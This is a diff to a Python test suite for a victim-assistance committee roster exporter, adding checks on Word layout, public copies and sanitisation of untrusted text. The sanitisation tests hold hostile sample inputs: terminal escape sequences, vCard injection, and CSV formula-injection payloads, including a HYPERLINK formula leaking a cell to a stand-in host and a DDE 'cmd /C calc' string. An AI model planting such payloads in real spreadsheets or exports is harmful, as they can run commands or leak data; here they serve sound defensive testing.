@@ -6,6 +6,7 @@ import csv
 import io
 import re
 import shutil
+import zipfile
 import subprocess
 from pathlib import Path
 
@@ -16,7 +17,9 @@ from typer.testing import CliRunner
 
 from vaplan.cli.main import app
 from vaplan.export.common import checked_plan
-from vaplan.export.roster import build_roster, normalize_phone, to_csv, to_docx, to_markdown, to_vcf
+from vaplan.export.roster import build_roster, normalize_phone
+from vaplan.export.roster_formats import to_csv, to_vcf
+from vaplan.export.roster_sheet import to_docx, to_markdown
 from conftest import ROOT, TODAY
 
 PLAN = ROOT / "tests" / "data" / "year-plan"
@@ -123,11 +126,37 @@ def test_word_call_sheet_reads_back() -> None:
     assert section.page_width > section.page_height  # landscape
     [table] = document.tables
     assert len(table.rows) == 5
-    assert [c.text for c in table.rows[0].cells][:4] == ["Organization", "Role", "Disciplines",
-                                                         "Representative"]
-    assert table.rows[1].cells[0].text == "Harbor County District Attorney | Victim Assistance"
-    assert table.rows[1].cells[4].text == "+1 541-555-0100 ext. 12"
+    assert [c.text for c in table.rows[0].cells] == [
+        "Organization", "Role", "Representative", "Phone", "Email", "Alternate",
+        "Alternate's phone"]
+    da = [c.text for c in table.rows[1].cells]
+    assert da[0] == ("Harbor County District Attorney | Victim Assistance\n"
+                     "Prosecutor's office, Victim services")
+    assert da[1:5] == ["Chair", "Sam Lee\nVictim Services Director", "+1 541-555-0100 ext. 12",
+                       "slee@harbor-da.example"]
+    assert da[5:] == ["María José de la Cruz\n", "+1 541-555-0101"]
     assert document.paragraphs[0].text == "Harbor County: planning committee contact list"
+    assert any(p.text.startswith("Committee only:") for p in document.paragraphs)
+
+
+def test_word_call_sheet_looks_like_the_other_word_documents() -> None:
+    """Made from templates/roster.docx like the checklist: vaplan's document properties, the
+    page header naming the community and day, and Page x of y in the footer."""
+    document = Document(io.BytesIO(to_docx(_roster())))
+    props = document.core_properties
+    checklist = Document(ROOT / "templates" / "checklist.docx").core_properties
+    assert props.title == "Planning committee contact list"
+    assert ((props.author, props.subject, props.created) ==
+            (checklist.author, checklist.subject, checklist.created))
+    assert props.author == "vaplan" and props.created.year > 2013  # not python-docx's own
+    section = document.sections[0]
+    assert section.header.paragraphs[0].text == (
+        "Committee only · Harbor County · Planning committee contact list · 2026-11-28")
+    footer = section.footer.paragraphs[0].text
+    assert footer.startswith("Check this list at every committee meeting")
+    with zipfile.ZipFile(io.BytesIO(to_docx(_roster()))) as docx:
+        assert "NUMPAGES" in docx.read("word/footer1.xml").decode()
+    assert to_docx(_roster()) == to_docx(_roster())  # the same plan and day, the same bytes
 
 
 def test_public_call_sheet_keeps_organizations_only() -> None:
@@ -139,7 +168,13 @@ def test_public_call_sheet_keeps_organizations_only() -> None:
     assert "share it only within" not in text
     document = Document(io.BytesIO(to_docx(roster)))
     assert any(p.text.startswith("Public copy:") for p in document.paragraphs)
-    assert len(document.tables[0].columns) == 3
+    assert not any("Committee only" in p.text for p in document.paragraphs)
+    assert "Committee only" not in document.sections[0].header.paragraphs[0].text
+    [table] = document.tables
+    assert [c.text for c in table.rows[0].cells] == ["Organization", "Role", "Disciplines",
+                                                     "Sector", "Level"]
+    cells = " ".join(c.text for row in table.rows for c in row.cells)
+    assert "Sam Lee" not in cells and "555" not in cells
 
 
 def test_public_vcf_has_a_card_per_organization() -> None:
@@ -161,6 +196,108 @@ def test_an_empty_committee_gives_an_empty_sheet(tmp_path: Path) -> None:
     assert "no members yet" in to_markdown(roster)
     assert to_vcf(roster) == ""
     assert to_csv(roster).count("\r\n") == 1
+    document = Document(io.BytesIO(to_docx(roster)))
+    assert document.tables == []
+    assert any(p.text == "The plan lists no committee members yet." for p in document.paragraphs)
+
+
+# text from the plan that must not reach a file as it is ----------------------------------------
+
+#: Written with YAML's double-quoted escapes, as a plan can: a bare CR, a terminal colour and
+#: title sequence, a bell, a NUL, a C1 control, a direction override.
+HOSTILE = {
+    "Sam Lee": r"Sam\rBEGIN:VCARD Lee\e[31m\a",
+    "Victim Services Director": r"Director \e]0;pwned\aof\0 victims\x85\u202e",
+    "Harbor County District Attorney | Victim Assistance": r"Harbor\r\nDA\e[2J\x9b1m",
+}
+
+
+def _hostile_plan(tmp_path: Path) -> Path:
+    plan = tmp_path / "plan"
+    shutil.copytree(PLAN, plan)
+    text = (plan / "committee.yaml").read_text(encoding="utf-8")
+    for plain, hostile in HOSTILE.items():
+        text = text.replace(f": {plain}\n", f': "{hostile}"\n')
+    (plan / "committee.yaml").write_text(text, encoding="utf-8")
+    return plan
+
+
+def _controls(text: str) -> list[str]:
+    """Control characters other than the line ends a format is made of."""
+    import unicodedata
+
+    return sorted({repr(c) for c in text.replace("\r\n", "")
+                   if unicodedata.category(c) == "Cc" or c in "\u202e"})
+
+
+def test_control_characters_and_escapes_never_reach_the_vcard(tmp_path: Path) -> None:
+    text = to_vcf(_roster(plan=_hostile_plan(tmp_path)))
+    assert _controls(text) == []
+    assert "\r" not in text.replace("\r\n", "") and "[31m" not in text and "pwned" not in text
+    cards = list(vobject.readComponents(text))
+    assert len(cards) == 5  # a CR cannot start a card of its own
+    assert cards[0].fn.value == "Sam BEGIN:VCARD Lee"
+    assert cards[0].title.value == "Director of victims"
+    assert cards[0].org.value == ["Harbor DA"]
+
+
+def test_control_characters_and_escapes_never_reach_the_csv(tmp_path: Path) -> None:
+    text = to_csv(_roster(plan=_hostile_plan(tmp_path)))
+    assert _controls(text) == []
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 4
+    assert rows[0]["organization"] == "Harbor DA"
+    assert rows[0]["representative_name"] == "Sam BEGIN:VCARD Lee"
+
+
+def test_control_characters_and_escapes_never_reach_the_call_sheet(tmp_path: Path) -> None:
+    roster = _roster(plan=_hostile_plan(tmp_path))
+    data = to_docx(roster)
+    with zipfile.ZipFile(io.BytesIO(data)) as docx:
+        xml = docx.read("word/document.xml").decode("utf-8")
+    assert _controls(xml.replace("\n", "")) == [] and "pwned" not in xml
+    cells = Document(io.BytesIO(data)).tables[0].rows[1].cells
+    assert cells[2].text == "Sam BEGIN:VCARD Lee\nDirector of victims"
+    markdown = to_markdown(roster)
+    assert _controls(markdown.replace("\n", "")) == []
+    assert "| Harbor DA | Chair |" in markdown
+
+
+@pytest.mark.parametrize("fmt", ["csv", "vcf", "md", "docx"])
+def test_cli_exports_a_plan_with_control_characters_in_every_format(tmp_path: Path, fmt: str
+                                                                    ) -> None:
+    out = tmp_path / f"roster.{fmt}"
+    result = CliRunner().invoke(app, ["export", "roster", str(_hostile_plan(tmp_path)), "-f", fmt,
+                                      "-o", str(out), "--today", "2026-11-28"])
+    assert result.exit_code == 0, result.output
+    assert "4 members" in result.output
+    data = out.read_bytes()
+    if fmt == "docx":
+        with zipfile.ZipFile(out) as docx:
+            data = docx.read("word/document.xml")
+    assert b"\x1b" not in data and b"\x07" not in data and b"\x00" not in data
+
+
+@pytest.mark.parametrize("written", [
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+1", "+SUM(1,2)", "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\\t=1+1", "\\r=1+1", " =1+1",
+])
+def test_csv_neutralises_every_cell_a_spreadsheet_would_run(tmp_path: Path, written: str
+                                                           ) -> None:
+    plan = tmp_path / "plan"
+    shutil.copytree(PLAN, plan)
+    text = (plan / "committee.yaml").read_text(encoding="utf-8")
+    quoted = written.replace('"', '\\"')
+    (plan / "committee.yaml").write_text(text.replace(": Pat Kim,", f': "{quoted}",')
+                                         .replace('"Coast Legal Aid; Family Law, Unit"',
+                                                  f'"{quoted}"'), encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(to_csv(_roster(plan=plan)))))
+    cells = [rows[1]["representative_name"], rows[2]["organization"]]
+    for cell in cells:
+        assert cell[0] not in "=+-@\t\r", cell
+        assert cell.lstrip("'").lstrip() == cell.lstrip("'")  # nothing before the quote
+    assert cells[0].startswith("'")
+    assert rows[1]["representative_phone"] == "+1 541-555-0102"  # a phone we wrote stays
 
 
 # command line ---------------------------------------------------------------------------------
